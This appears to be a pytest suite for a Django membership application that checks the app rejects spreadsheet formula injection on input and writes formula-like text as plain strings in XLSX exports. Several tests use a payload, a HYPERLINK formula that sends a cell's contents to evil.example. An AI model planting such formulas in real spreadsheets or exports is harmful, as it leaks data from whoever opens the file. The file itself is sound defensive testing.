"""Formula injection (issue #11): inputs refuse text a spreadsheet would run, exports never write a
formula, whatever is stored."""

import io
import zipfile
from datetime import date

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from dangvu.core.spreadsheets.safety import looks_like_formula
from dangvu.members.importer import run_import
from dangvu.members.models import Member
from dangvu.members.services import member_create, member_update
from tests.members.test_api import api, create

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Xem")'


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        (EVIL, True),
        ("+1+2", True),
        ("-2+3", True),
        ("@SUM(A1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("  =1", True),
        ("Nguyễn Văn An", False),
        ("Hà Nội - Việt Nam", False),
        ("", False),
    ],
)
def test_what_looks_like_a_formula(text, refused):
    assert looks_like_formula(text) is refused


def test_csv_import_refuses_a_formula_in_a_name_naming_the_column(tree, people):
    csv = "Họ và tên,Giới tính,Quê quán\n" + f'"{EVIL.replace(chr(34), chr(34) * 2)}",Nam,Ninh Bình\n'
    csv += "Trần Văn Bình,Nam,@cmd\n"
    upload = SimpleUploadedFile("m.csv", ("\ufeff" + csv).encode())
    report = run_import(actor=people.province, org=tree.a1, upload=upload, dry_run=False, mode="valid")
    assert [(p.row, p.column, p.message) for p in report.problems] == [
        (
            2,
            "Họ và tên",
            "Họ và tên không được bắt đầu bằng dấu =, +, -, @ (dễ bị bảng tính hiểu là công thức).",
        ),
        (
            3,
            "Quê quán",
            "Quê quán không được bắt đầu bằng dấu =, +, -, @ (dễ bị bảng tính hiểu là công thức).",
        ),
    ]
    assert (report.created, Member.objects.count()) == (0, 0)


def test_api_refuses_a_formula_in_a_name_with_the_fields_name(tree, people):
    client, auth = api(people.secretary)
    response = create(client, auth, org=tree.a1.pk, full_name=EVIL, sex="male")
    assert response.status_code in (400, 422), response.content
    body = response.json()["error"]
    assert body["details"][0]["field"] == "full_name"
    assert body["details"][0]["message"].startswith("Họ và tên không được bắt đầu bằng dấu =")
    assert not Member.objects.exists()


def test_services_refuse_a_formula_and_keep_the_stored_value(tree, admin_user):
    with pytest.raises(ValidationError) as refused:
        member_create(actor=admin_user, org=tree.a1, full_name="-1+1", sex="male")
    assert list(refused.value.message_dict) == ["full_name"]
    member = member_create(actor=admin_user, org=tree.a1, full_name="Lê Văn An", sex="male")
    with pytest.raises(ValidationError) as refused:
        member_update(actor=admin_user, member=member, changes={"work_unit": "=1+1"})
    assert refused.value.message_dict["work_unit"][0].startswith("Đơn vị công tác không được")
    member.refresh_from_db()
    assert member.work_unit == ""


def test_export_writes_stored_formula_text_as_text(tree, people, admin_user, client):
    member = member_create(
        actor=admin_user, org=tree.a1, full_name="Lê Văn An", sex="male", birth_date=date(1980, 1, 2)
    )
    # Data stored before the input check existed (or by a path that skipped it).
    Member.objects.filter(pk=member.pk).update(full_name=EVIL, hometown="+1+2")
    client.force_login(people.secretary)
    response = client.get("/members/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    row = next(book.active.iter_rows(min_row=5, max_row=5))
    cells = {c.value: c.data_type for c in row}
    assert cells[EVIL] == "s"
    assert cells["+1+2"] == "s"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<f " not in sheet


def test_statistics_report_writes_unit_names_as_text(tree, admin_user, client):
    from dangvu.members.reports import yearly_report_xlsx
    from dangvu.orgs.models import Org

    Org.objects.filter(pk=tree.xa.pk).update(name="=1+1")
    Org.objects.filter(pk=tree.root.pk).update(name="@SUM(A1)")
    tree.root.refresh_from_db()
    content = yearly_report_xlsx(tree.root, 2026)
    book = load_workbook(io.BytesIO(content))
    assert (book["Tổng hợp"]["A2"].value, book["Tổng hợp"]["A2"].data_type) == ("@SUM(A1)", "s")
    units = {row[1].value: row[1].data_type for row in book["Theo đơn vị"].iter_rows(min_row=2)}
    assert units["=1+1"] == "s"
    assert book["Theo đơn vị"].freeze_panes == "A2"


def _cells(content: bytes) -> list:
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_the_audit_log_export_writes_recorded_text_as_text(people, tree):
    from django.test import Client

    from dangvu.audit.services import audit_log

    audit_log(
        actor=people.admin,
        action="other",
        event="test.formula",
        object_repr='=HYPERLINK("http://evil.example")',
    )
    client = Client()
    client.force_login(people.admin)
    response = client.get("/audit/export.xlsx")
    assert response.status_code == 200
    cells = [c for c in _cells(response.content) if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells
    assert all(c.data_type == "s" for c in cells)


def test_the_document_register_writes_subjects_as_text(people, tree):
    from datetime import date

    from django.test import Client

    from dangvu.documents import services

    services.document_register_incoming(
        actor=people.admin,
        org=tree.xa,
        doc_type="CV",
        subject='=HYPERLINK("http://evil.example/?d="&B2,"Xem")',
        sender_name="Tỉnh ủy",
        received_on=date(2026, 11, 30),
    )
    client = Client()
    client.force_login(people.admin)
    response = client.get(
        "/api/v1/documents/register",
        {"direction": "incoming", "year": 2026, "format": "xlsx", "org": tree.xa.pk},
    )
    assert response.status_code == 200, response.content[:300]
    cells = [c for c in _cells(response.content) if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells
    assert all(c.data_type == "s" for c in cells)
